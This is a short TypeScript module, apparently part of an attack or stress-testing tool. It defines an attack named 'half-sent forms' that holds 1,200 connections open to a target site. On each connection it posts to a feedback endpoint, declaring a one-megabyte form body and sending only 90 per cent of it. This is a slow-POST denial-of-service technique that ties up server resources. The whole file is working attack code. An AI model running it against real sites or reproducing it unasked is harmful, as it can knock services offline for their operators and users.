import { keepConnected, post } from '../connections.ts'
import type { Attack } from '../attack.ts'

const formBytes = 1_000_000

/** Forms of a megabyte that lack their last bytes. */
export const attack: Attack = {
  name: 'half-sent forms',
  run: (site, until) =>
    keepConnected(site, until, 1_200, (socket) => {
      socket.write(post('/v1/moments/sendFeedback', formBytes))
      socket.write(`message=${'x'.repeat(0.9 * formBytes)}`)
    }),
}
